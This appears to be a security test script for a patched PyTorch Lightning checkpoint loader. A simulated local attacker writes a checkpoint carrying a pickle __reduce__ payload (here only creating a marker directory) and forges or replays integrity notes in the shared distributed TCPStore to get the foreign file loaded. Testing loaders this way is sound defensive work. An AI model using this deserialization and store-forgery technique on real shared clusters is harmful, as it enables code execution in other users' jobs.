"""Two ranks of a job. The second loads a checkpoint that neither has written. The third process is another user of the
machine who can reach ``MASTER_PORT`` and writes to the same directory.

foreign_note.py job|attacker DIRECTORY
"""

import datetime
import hashlib
import json
import os
import sys
import time
from pathlib import Path

import torch
import torch.distributed

ROLE, SHARED = sys.argv[1], Path(sys.argv[2])
FILE = SHARED / "pretrained.ckpt"
NOBODY = 65534
ADDRESS = os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"])
WAIT = datetime.timedelta(seconds=60)


class Hostile:
    def __reduce__(self):
        return os.mkdir, (str(SHARED / "the_code_ran"),)


class Options:
    """A class of the job."""


def until(name):
    while not (SHARED / name).exists():
        time.sleep(0.05)


def attack():
    store = torch.distributed.TCPStore(*ADDRESS, is_master=False, wait_for_workers=False, timeout=WAIT)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    until("ready")
    os.umask(0)
    torch.save({"state_dict": {}, "hyper_parameters": Hostile(), "pytorch-lightning_version": "2.6.6"}, FILE)
    content = FILE.read_bytes()
    blocks = [hashlib.sha256(content[at : at + 2**20]).hexdigest() for at in range(0, len(content), 2**20)]
    digest = hashlib.sha256(content).hexdigest()
    own = f"lightning_patches/checkpoint/{hashlib.sha256(os.path.realpath(SHARED / 'own.ckpt').encode()).hexdigest()}"
    key = f"lightning_patches/checkpoint/{hashlib.sha256(os.path.realpath(FILE).encode()).hexdigest()}"
    replayed = ""
    for prefix in ("", "default_pg/", "default_pg/0//", "default_pg/0/", "0//", "0/", "default_pg/default_pg//"):
        if store.check([prefix + own]):
            replayed = store.get(prefix + own).decode()[64:]
    print("proof of another file:", len(replayed), flush=True)
    notes = [json.dumps([len(content), blocks]), digest, digest + replayed, digest + "0" * 64]
    for note in notes:
        for prefix in ("", "default_pg/", "default_pg/0//", "default_pg/0/", "0//", "0/", "default_pg/default_pg//"):
            store.set(prefix + key, note)
        (SHARED / "go").touch()
        until("tried")
        (SHARED / "tried").unlink()


def work():
    os.environ["WORLD_SIZE"] = "2"
    import lightning_patches  # noqa: F401, I001
    import lightning.pytorch as pl

    class Model(pl.LightningModule):
        def __init__(self, options=None):
            super().__init__()
            self.save_hyperparameters()
            self.layer = torch.nn.Linear(4, 1)

    torch.distributed.init_process_group("gloo")
    if torch.distributed.get_rank() == 0:
        trainer = pl.Trainer(accelerator="cpu", logger=False, enable_checkpointing=False)
        trainer.strategy.connect(Model(Options()))
        trainer.save_checkpoint(SHARED / "own.ckpt")
        (SHARED / "ready").touch()
        until("done")
        os._exit(0)

    def load(name, path):
        try:
            Model.load_from_checkpoint(path)
            print(f"{name}: loaded", flush=True)
        except Exception as error:
            print(f"{name}: refused", type(error).__name__, flush=True)

    until("ready")
    load("own", SHARED / "own.ckpt")
    for _ in range(4):
        until("go")
        (SHARED / "go").unlink()
        load("foreign", FILE)
        (SHARED / "tried").touch()
    print("code ran:", (SHARED / "the_code_ran").exists(), flush=True)
    (SHARED / "done").touch()
    os._exit(0)


if __name__ == "__main__":
    attack() if ROLE == "attacker" else work()
